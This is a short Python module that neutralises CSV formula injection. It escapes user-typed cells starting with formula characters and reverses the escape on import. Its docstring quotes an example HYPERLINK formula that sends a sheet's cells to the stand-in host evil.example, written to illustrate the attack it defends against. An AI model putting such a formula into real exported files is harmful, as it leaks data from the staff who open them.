"""Text cells that a spreadsheet opens as text, never runs as a formula (CSV injection).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets; a name such as `=HYPERLINK("http://evil.example/?"&A1,
"click")` would send the sheet's cells away when staff open the file. Every CSV the program
writes passes the text people typed through `csv_text`, which puts a `'` before such a cell
(shown as text, the rest unchanged); `csv_text_read` takes it off again when such a file is
imported, so an export imports back as it was.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """Text a partner or contact typed, made safe to open in a spreadsheet."""
    return f"'{value}" if value.startswith(FORMULA_START) else value


def csv_text_read(value: str) -> str:
    """A cell `csv_text` wrote, as it was typed."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_START) else value
